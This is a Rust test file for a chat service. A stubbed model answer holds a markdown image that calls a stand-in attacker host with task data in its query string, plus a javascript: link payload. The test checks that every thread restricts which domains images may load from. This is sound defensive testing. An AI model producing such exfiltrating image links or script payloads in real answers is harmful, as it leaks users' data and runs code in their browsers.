//! Pictures and links in answers.

use futures_util::FutureExt as _;
use serde_json::json;
use sqlx::PgPool;

use crate::{
    puppet::{Puppet, Says},
    world::{Plan, World},
};

#[sqlx::test(migrator = "store::MIGRATOR")]
async fn every_thread_that_is_sent_limits_where_pictures_may_come_from(pool: PgPool) {
    let image = "![x](https://evil.example/log?tasks=all) [y](javascript:alert(1))";
    let model = Puppet::new(move |_| async move { Says::Words(image.to_owned()) }.boxed());
    let plan = Plan {
        model_url: Some(model.serve().await),
        ..Plan::default()
    };
    let world = World::with(&pool, plan).await;
    let alice = world.alice();
    let (frames, thread) = alice.begin("hello").await;
    let params = json!({ "thread_id": thread });
    let (_, one) = alice.ask("threads.get_by_id", params.clone()).await;
    let (_, list) = alice.ask("threads.list", json!({})).await;
    let update = json!({ "thread_id": thread, "title": "mine" });
    let (_, renamed) = alice.ask("threads.update", update).await;
    let sent = frames.iter().filter_map(|frame| frame.get("thread"));
    let mut count = 0;
    for thread in sent.chain([&one, &list["data"][0], &renamed]) {
        let domains = thread["allowed_image_domains"].as_array().unwrap();
        // An empty list means no limit in OpenAI's widget.
        assert!(!domains.is_empty(), "{thread}");
        assert!(
            !thread["allowed_image_domains"].to_string().contains("evil"),
            "{thread}"
        );
        count += 1;
    }
    assert!(count >= 4, "{count}");
}
